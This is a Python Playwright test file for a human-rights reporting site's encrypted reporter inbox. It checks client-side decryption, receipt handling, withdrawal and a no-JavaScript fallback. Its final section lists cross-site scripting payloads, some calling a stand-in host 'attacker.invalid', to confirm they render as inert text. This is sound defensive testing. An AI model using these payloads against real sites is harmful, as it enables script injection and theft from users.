"""The reporter's inbox in a real browser (DESIGN.md 3, "Receipts"; 2.1 to 2.3).

With JavaScript, the receipt never leaves the browser: the page derives the keys from it,
sends the lookup token, opens the desk's replies itself and encrypts the reporter's messages
before they go. So the server never sends a reply in the clear, never receives the
reporter's words, and keeps neither. Without JavaScript the same inbox works through the
server, after a warning. Whatever the desk writes is shown as text, never run.
"""

import base64
import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit
from uuid import UUID

import pytest
from playwright.sync_api import BrowserContext, Page, Route
from sqlalchemy import select

from hrd_reports.crypto.messages import message_sizes
from hrd_reports.crypto.receipts import derive_receipt_keys, generate_receipt, normalise_receipt
from hrd_reports.i18n import locale
from hrd_reports.models import MessageSender, Report, ReporterStage, WithdrawnReport
from hrd_reports.services import conversation, stages
from hrd_reports.web.labels import STAGE_TEXTS
from hrd_reports.wiring import Runtime
from tests.browser.conftest import LiveServer
from tests.browser.support import (
    PAGE_TIMEOUT_MS,
    Recorder,
    canary,
    fill_report,
    receipt_secrets,
    record_dialogs,
    send_and_read_receipt,
)
from tests.helpers import Desk, Person, report_content

pytestmark = pytest.mark.browser

ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
NewContext = Callable[..., BrowserContext]


# --- Driving the inbox ---------------------------------------------------------------------


def open_inbox(page: Page, receipt: str) -> None:
    """Type the receipt into the inbox form and press "Open my inbox"; wait until the page
    has either shown the inbox or said why not."""
    page.fill("#receipt", receipt)
    page.click("[data-testid=inbox-open]")
    page.wait_for_function(
        """() => !document.getElementById("inbox-view").hidden
                 || !document.getElementById("inbox-error").hidden""",
        timeout=PAGE_TIMEOUT_MS,
    )


def shown_error(page: Page) -> str:
    error = page.locator("[data-testid=inbox-error]")
    assert error.is_visible()
    return error.text_content() or ""


def shown_messages(page: Page) -> list[tuple[str | None, str]]:
    """(sender, text) of each message on the page, in order."""
    items = page.locator("[data-testid=inbox-message]")
    return [
        (
            items.nth(i).get_attribute("data-sender"),
            items.nth(i).locator(".message-text").text_content() or "",
        )
        for i in range(items.count())
    ]


def posted_to(recorder: Recorder, origin: str) -> list[str]:
    """The path of each POST, in order (all to ``origin``)."""
    assert all(post.url.startswith(origin + "/") for post in recorder.posts())
    return [urlsplit(post.url).path for post in recorder.posts()]


def body_of(recorder: Recorder, url: str) -> dict[str, Any]:
    """The JSON body of the one POST to ``url`` (its query aside)."""
    (post,) = [post for post in recorder.posts() if post.url.split("?")[0] == url]
    sent: dict[str, Any] = json.loads(post.post_data_buffer or b"")
    return sent


def lookup_token_of(receipt: str) -> str:
    return base64.b64encode(derive_receipt_keys(receipt).lookup_token).decode("ascii")


def stored_report_ids(desk: Desk) -> list[UUID]:
    with desk.session() as session:
        return list(session.execute(select(Report.public_id)).scalars())


def withdrawn_ids(desk: Desk) -> list[UUID]:
    with desk.session() as session:
        return list(session.execute(select(WithdrawnReport.public_id)).scalars())


def nothing_found(lang: str) -> str:
    return locale(lang).translations.gettext(conversation.NOTHING_FOUND)


def set_stage_message(desk: Desk, admin: Person, lang: str, text: str) -> None:
    with desk.session() as session:
        stages.set_stage_message(
            session,
            stage=ReporterStage.RECEIVED,
            locale=lang,
            text=text,
            actor=admin.name,
            secrets=desk.secrets,
        )
        session.commit()


def assert_nothing_kept_in_the_browser(page: Page, context: BrowserContext) -> None:
    kept = page.evaluate(
        """async () => [document.cookie, localStorage.length, sessionStorage.length,
                        (await indexedDB.databases()).length]"""
    )
    assert kept == ["", 0, 0, 0]
    assert context.cookies() == []


# --- With JavaScript -----------------------------------------------------------------------


def test_inbox_reply_to_a_report_sent_from_the_form_opens_only_in_the_browser(
    page: Page,
    context: BrowserContext,
    recorder: Recorder,
    live_server: LiveServer,
    desk: Desk,
    admin: Person,
    runtime: Runtime,
    search_at_rest: Callable[[dict[str, str]], list[str]],
) -> None:
    # The reporter sends a report through the real form and keeps the receipt.
    page.goto(live_server.url("/report"))
    fill_report(page, canary("report"))
    receipt = send_and_read_receipt(page)
    (report_id,) = stored_report_ids(desk)

    # The desk answers; only the reporter's receipt opens the answer. From now on, every
    # byte the server sends to the reporter's browser is kept, to be searched.
    reply = canary("reply")
    desk.reply(report_id, reply, by=admin)
    after_reply = Recorder()
    after_reply.attach(context)

    # Later, from the reporter bar, the reporter opens the inbox. (The responses of a page are
    # read before leaving it: Chromium forgets them after.)
    page.check("[data-testid=receipt-confirm]")
    page.click("#receipt-done")
    page.wait_for_url(live_server.url("/report/done?lang=en"))
    page.wait_for_load_state("networkidle")
    after_reply.read_bodies()
    page.click("[data-testid=inbox-link]")
    page.wait_for_url(live_server.url("/inbox?lang=en"))
    assert page.locator("[data-js-only]").is_visible()  # the in-browser path is on
    open_inbox(page, receipt)

    assert shown_messages(page) == [("desk", reply)]
    stage = page.locator("[data-testid=inbox-stage]").text_content()
    assert stage == STAGE_TEXTS[ReporterStage.RECEIVED.value]
    assert page.locator("[data-testid=inbox-empty]").is_hidden()
    assert page.locator("#message-form").is_visible()
    assert page.input_value("#receipt") == ""  # the receipt does not stay on the screen
    assert_nothing_kept_in_the_browser(page, context)

    # The browser sent the lookup token, never the receipt; and the form was never posted.
    assert posted_to(recorder, live_server.origin) == ["/api/v1/reports", "/api/v1/inbox"]
    sent = body_of(recorder, live_server.url("/api/v1/inbox"))
    assert set(sent) == {"proof_of_work", "lookup_token"}
    assert sent["lookup_token"] == lookup_token_of(receipt)
    assert recorder.leaks(receipt_secrets(receipt)) == []

    # The server never sent the reply in the clear, in any response to this browser.
    token = reply.split()[0]
    page.wait_for_load_state("networkidle")
    received = [url.removeprefix(live_server.origin) for url, _ in after_reply.received()]
    assert {"/report/done?lang=en", "/inbox?lang=en", "/api/v1/inbox?lang=en"} <= set(received)
    assert after_reply.received_leaks({"reply": reply, "reply token": token}) == []
    assert recorder.page_errors == []
    assert recorder.console_errors == []

    # Nor does any byte at rest hold the reply or the receipt.
    live_server.stop()
    runtime.close()
    assert search_at_rest({"reply": reply, "reply token": token} | receipt_secrets(receipt)) == []


def test_inbox_message_from_the_reporter_reaches_the_desk_and_leaves_only_encrypted(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    submitted = desk.submit(report_content("CANARY-inbox-message-report"))
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)
    assert shown_messages(page) == []
    assert page.locator("[data-testid=inbox-empty]").is_visible()
    # The receipt was typed once: the message form asks for no other.
    assert page.locator("#message-receipt").is_hidden()

    words = canary("message") + "\nthey came back last night"
    page.fill("[data-testid=message-text]", words)
    page.click("[data-testid=message-send]")
    page.locator("[data-testid=inbox-sent]").wait_for(state="visible")

    # The reloaded inbox shows it, opened in the browser; the text box is empty again.
    assert shown_messages(page) == [("reporter", words)]
    assert page.input_value("[data-testid=message-text]") == ""
    (message,) = desk.thread(submitted.report_id, by=admin)
    assert (message.sender, message.text) == (MessageSender.REPORTER, words)

    # What left the browser: the token and ciphertext of a padded size, never the words.
    assert posted_to(recorder, live_server.origin) == [
        "/api/v1/inbox",
        "/api/v1/inbox/messages",
        "/api/v1/inbox",
    ]
    sent = body_of(recorder, live_server.url("/api/v1/inbox/messages"))
    assert set(sent) == {"proof_of_work", "lookup_token", "message"}
    assert sent["lookup_token"] == lookup_token_of(submitted.receipt)
    assert UUID(sent["message"]["id"]) == message.id
    assert UUID(sent["message"]["id"]).version == 4
    assert len(base64.b64decode(sent["message"]["ciphertext"])) in message_sizes()
    secrets = {"message": words, "message token": words.split()[0]}
    assert recorder.leaks(secrets | receipt_secrets(submitted.receipt)) == []
    assert recorder.page_errors == []


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_inbox_unknown_receipt_gets_the_one_generic_answer_in_the_page_language(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, lang: str
) -> None:
    desk.submit(report_content("a report that another receipt opens"))
    page.goto(live_server.url(f"/inbox?lang={lang}"))
    open_inbox(page, generate_receipt())  # well formed, and leads nowhere

    assert shown_error(page) == nothing_found(lang)
    if lang != "en":
        assert nothing_found(lang) != conversation.NOTHING_FOUND  # it was translated
    assert page.locator("[data-testid=inbox-view]").is_hidden()
    assert posted_to(recorder, live_server.origin) == ["/api/v1/inbox"]


def test_inbox_mistyped_receipt_is_refused_in_the_browser_and_nothing_is_sent(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk
) -> None:
    submitted = desk.submit(report_content("a report whose receipt is mistyped"))
    digits = normalise_receipt(submitted.receipt)
    # One wrong digit: the check digit catches it before anything is derived or sent.
    mistyped = digits[:5] + str((int(digits[5]) + 1) % 10) + digits[6:]
    page.goto(live_server.url("/inbox"))
    open_inbox(page, mistyped)

    assert shown_error(page) == page.get_attribute("#inbox-form", "data-msg-mistyped")
    assert page.locator("[data-testid=inbox-view]").is_hidden()
    assert recorder.posts() == []
    assert not any("/api/v1/challenge" in request.url for request in recorder.requests)


def test_inbox_receipt_in_arabic_indic_digits_with_dashes_opens_the_inbox_in_arabic(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    submitted = desk.submit(report_content("a report whose receipt is typed in Arabic"))
    reply = "وصلنا بلاغك. هل أنت بأمان؟"
    desk.reply(submitted.report_id, reply, by=admin)
    # The desk's words for the stage follow the page's language, not the browser's (English).
    set_stage_message(desk, admin, "en", "We have your report.")
    set_stage_message(desk, admin, "ar", "وصلنا بلاغك.")
    groups = submitted.receipt.translate(ARABIC_INDIC).split()
    typed = " - ".join(groups[:4]) + "  " + "-".join(groups[4:])
    page.goto(live_server.url("/inbox?lang=ar"))
    open_inbox(page, typed)

    assert shown_messages(page) == [("desk", reply)]
    assert page.locator("[data-testid=inbox-stage]").text_content() == "وصلنا بلاغك."
    sent = body_of(recorder, live_server.url("/api/v1/inbox"))
    assert sent["lookup_token"] == lookup_token_of(submitted.receipt)


def test_inbox_withdrawal_needs_the_tick_then_destroys_the_report(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    submitted = desk.submit(report_content("a report to withdraw"))
    desk.reply(submitted.report_id, "a reply that goes with it", by=admin)
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)
    assert page.locator("#withdraw-receipt").is_hidden()

    # Without the tick, nothing is sent.
    page.click("[data-testid=withdraw-send]")
    assert shown_error(page) == page.get_attribute("#inbox-form", "data-msg-confirm")
    assert posted_to(recorder, live_server.origin) == ["/api/v1/inbox"]
    assert stored_report_ids(desk) == [submitted.report_id]

    page.check("[data-testid=withdraw-confirm]")
    page.click("[data-testid=withdraw-send]")
    page.locator("[data-testid=inbox-withdrawn]").wait_for(state="visible")
    # The conversation is gone from the page with the keys that opened it.
    assert page.locator("[data-testid=inbox-view]").is_hidden()
    assert page.locator("[data-testid=inbox-message]").count() == 0
    assert posted_to(recorder, live_server.origin) == ["/api/v1/inbox", "/api/v1/inbox/withdraw"]
    assert stored_report_ids(desk) == []
    assert withdrawn_ids(desk) == [submitted.report_id]

    # The receipt now gets the answer of a receipt that never led anywhere.
    open_inbox(page, submitted.receipt)
    assert shown_error(page) == nothing_found("en")
    assert page.locator("[data-testid=inbox-view]").is_hidden()


def _flip_challenge(route: Route) -> None:
    """Forge the proof of work: one character of the signed challenge, changed in flight."""
    body: dict[str, Any] = json.loads(route.request.post_data_buffer or b"")
    challenge = body["proof_of_work"]["challenge"]
    body["proof_of_work"]["challenge"] = challenge[:-1] + ("A" if challenge[-1] != "A" else "B")
    route.continue_(post_data=json.dumps(body).encode())


def test_inbox_message_refused_by_the_server_keeps_the_words_and_stores_nothing(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    submitted = desk.submit(report_content("a report whose follow-up is refused"))
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)
    words = "my words must not be lost"
    page.fill("[data-testid=message-text]", words)

    page.route(live_server.url("/api/v1/inbox/messages"), _flip_challenge)
    with page.expect_response(live_server.url("/api/v1/inbox/messages")) as refused:
        page.click("[data-testid=message-send]")
    assert refused.value.status == 400
    page.locator("[data-testid=inbox-error]").wait_for(state="visible")

    assert shown_error(page) == page.get_attribute("#inbox-form", "data-msg-failed")
    assert page.locator("[data-testid=inbox-sent]").is_hidden()
    assert page.input_value("[data-testid=message-text]") == words
    assert desk.thread(submitted.report_id, by=admin) == []
    # Nothing more was sent after the refusal.
    assert posted_to(recorder, live_server.origin) == ["/api/v1/inbox", "/api/v1/inbox/messages"]


def test_inbox_message_whose_answer_was_lost_is_sent_again_and_stored_once(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    # On a bad connection the message arrives but its answer does not: the reporter, told it
    # failed, sends again; the desk must not get it twice.
    submitted = desk.submit(report_content("a report followed up over a bad connection"))
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)
    words = "sent once, answered never"
    page.fill("[data-testid=message-text]", words)

    def deliver_then_drop(route: Route) -> None:
        route.fetch()  # the server receives and stores the message ...
        route.abort("connectionreset")  # ... and its answer never reaches the page

    messages_url = live_server.url("/api/v1/inbox/messages")
    page.route(messages_url, deliver_then_drop)
    page.click("[data-testid=message-send]")
    page.locator("[data-testid=inbox-error]").wait_for(state="visible")
    assert page.input_value("[data-testid=message-text]") == words
    assert [m.text for m in desk.thread(submitted.report_id, by=admin)] == [words]

    page.unroute(messages_url)
    page.click("[data-testid=message-send]")
    page.locator("[data-testid=inbox-sent]").wait_for(state="visible")
    assert shown_messages(page) == [("reporter", words)]
    assert [m.text for m in desk.thread(submitted.report_id, by=admin)] == [words]
    first, again = (
        json.loads(request.post_data or "{}")["message"]
        for request in recorder.requests
        if request.url == messages_url
    )
    assert first == again


def test_inbox_without_the_encryption_library_refuses_and_sends_nothing(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk
) -> None:
    submitted = desk.submit(report_content("a report a broken browser tries to open"))
    # The HPKE bundle does not arrive (blocked, or a failed download): the page cannot derive
    # the reporter's key, and must neither post the receipt nor try half the work.
    page.route(live_server.url("/static/vendor/hpke.min.js"), lambda route: route.abort())
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)

    assert shown_error(page) == page.get_attribute("#inbox-form", "data-msg-unsupported")
    assert page.url == live_server.url("/inbox")  # the form was not posted
    assert recorder.posts() == []
    assert not any("/api/" in request.url for request in recorder.requests)


@pytest.mark.parametrize(
    ("path", "script"), [("/inbox", "inbox.js"), ("/report", "intake.js")], ids=["inbox", "report"]
)
def test_page_whose_script_did_not_load_holds_its_form_and_sends_nothing(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk, path: str, script: str
) -> None:
    # JavaScript is on, so the page showed no warning that the server would see anything; a
    # blocked (or altered, so refused by its integrity check) page script must not turn the
    # form into the server-trusting path without that warning.
    page.route(live_server.url(f"/static/js/{script}"), lambda route: route.abort())
    page.goto(live_server.url(path))
    if path == "/inbox":
        page.fill("#receipt", generate_receipt())
        page.click("[data-testid=inbox-open]")
    else:
        fill_report(page, "CANARY-held a report whose page script was blocked")
        page.click("#report-form button[type=submit]")

    page.locator("[data-testid=script-missing]").wait_for(state="visible")
    assert page.url == live_server.url(path)
    assert recorder.posts() == []


# --- Without JavaScript --------------------------------------------------------------------


def test_inbox_without_javascript_warns_then_opens_and_sends_through_the_server(
    no_js_page: Page, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    page = no_js_page
    submitted = desk.submit(report_content("a report read without JavaScript"))
    reply = canary("nojs-reply")
    desk.reply(submitted.report_id, reply, by=admin)

    page.goto(live_server.url("/inbox"))
    # Told, before the receipt is sent, that the server will see it this once.
    warning = page.locator("[data-testid=inbox-no-js-warning]")
    assert warning.is_visible()
    assert "your receipt will be sent to our server" in warning.inner_text()
    assert page.locator("[data-js-only]").is_hidden()
    page.fill("#receipt", submitted.receipt)
    with page.expect_response(live_server.url("/inbox?lang=en")) as answer:
        page.click("[data-testid=inbox-open]")
    assert (answer.value.request.method, answer.value.status) == ("POST", 200)
    assert "set-cookie" not in answer.value.all_headers()
    assert shown_messages(page) == [("desk", reply)]

    # Writing needs the receipt again: the server kept nothing of the last request.
    words = canary("nojs-message")
    page.fill("#message-receipt", submitted.receipt)
    page.fill("[data-testid=message-text]", words)
    with page.expect_response(live_server.url("/inbox?lang=en")) as answer:
        page.click("[data-testid=message-send]")
    assert answer.value.status == 200
    assert page.locator("[data-testid=inbox-sent]").is_visible()
    assert shown_messages(page) == [("desk", reply), ("reporter", words)]
    thread = desk.thread(submitted.report_id, by=admin)
    assert [(message.sender, message.text) for message in thread] == [
        (MessageSender.DESK, reply),
        (MessageSender.REPORTER, words),
    ]


# --- Hostile words stay words --------------------------------------------------------------

# ``.invalid`` never resolves (RFC 6761); requests elsewhere are answered before they leave.
ATTACKER = "https://attacker.invalid"


def _runs(label: str) -> str:
    return f"window.__xss=`{label}`;fetch(`{ATTACKER}/{label}`);alert(`{label}`)"


PAYLOADS = [
    f"<img src=x onerror={_runs('img')}>",
    "<img src=x onerror=alert(1)>",
    f"<script>{_runs('script')}</script>",
    f'<svg onload="{_runs("svg")}"></svg>',
    f'<a href="javascript:{_runs("link")}">open the evidence</a>',
    f'<details open ontoggle="{_runs("details")}">',
    f"<style>@import url({ATTACKER}/style.css);</style>",
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/meta">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_runs("mxss")}">',
    f'" autofocus onfocus="{_runs("dq")}" x="',
]

# Every element inside a message, by name: the page's own markup (li > p > span, li > p) and
# nothing a payload brought.
ELEMENTS_IN_MESSAGES = """() => Array.from(
  document.querySelectorAll("[data-testid=inbox-message]"),
  (item) => Array.from(item.querySelectorAll("*"), (element) => element.localName))"""


def test_inbox_hostile_reply_and_stage_message_show_as_text(
    new_context: NewContext, live_server: LiveServer, desk: Desk, admin: Person
) -> None:
    # The policy (no inline script) is switched off in this browser, so the page's own care
    # is all that stands: a payload that got through textContent would run and be seen.
    context = new_context(bypass_csp=True)
    context.set_default_timeout(PAGE_TIMEOUT_MS)
    recorder = Recorder()
    recorder.attach(context)
    context.route(
        lambda url: not url.startswith(live_server.origin + "/"),
        lambda route: route.fulfill(status=204),
    )
    page = context.new_page()
    dialogs = record_dialogs(page)

    submitted = desk.submit(report_content("a report the attacker answers"))
    reply = "\n".join(PAYLOADS)
    desk.reply(submitted.report_id, reply, by=admin)
    stage_words = f"<img src=x onerror={_runs('stage')}> we are on it"
    set_stage_message(desk, admin, "en", stage_words)

    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)

    assert shown_messages(page) == [("desk", reply)]
    assert page.locator("[data-testid=inbox-stage]").text_content() == stage_words
    assert page.evaluate(ELEMENTS_IN_MESSAGES) == [["p", "bdi", "p"]]
    assert page.locator("[data-testid=inbox-stage] *").count() == 0
    assert page.evaluate("() => window.__xss") is None
    assert dialogs == []
    elsewhere = [r.url for r in recorder.requests if not r.url.startswith(live_server.origin)]
    assert elsewhere == []
    assert recorder.page_errors == []


def test_inbox_script_keeps_the_page_free_of_inline_code_and_other_origins(
    page: Page, recorder: Recorder, live_server: LiveServer, desk: Desk
) -> None:
    submitted = desk.submit(report_content("a report to check the page with"))
    page.goto(live_server.url("/inbox"))
    open_inbox(page, submitted.receipt)
    page.wait_for_load_state("networkidle")

    markup = page.evaluate(
        """() => ({
          inline: Array.from(document.scripts, (s) => s.src ? "" : s.textContent)
                     .filter((code) => code.trim()),
          styles: document.querySelectorAll("style, [style]").length,
          handlers: Array.from(document.querySelectorAll("*")).flatMap(
            (el) => Array.from(el.attributes, (a) => a.name)
                         .filter((name) => name.startsWith("on"))),
        })"""
    )
    assert markup == {"inline": [], "styles": 0, "handlers": []}
    requested = {request.url for request in recorder.requests}
    assert live_server.url("/static/js/inbox.js") in requested
    assert live_server.url("/static/js/pow-worker.js") in requested
    assert [url for url in requested if not url.startswith(live_server.origin + "/")] == []
    for response in recorder.responses:
        assert "set-cookie" not in response.all_headers(), response.url
        assert response.status < 400, response.url
    assert recorder.console_errors == []
    integrity = page.get_attribute("script[src^='/static/js/inbox.js']", "integrity")
    assert re.fullmatch(r"sha384-[A-Za-z0-9+/]+=*", integrity or "")
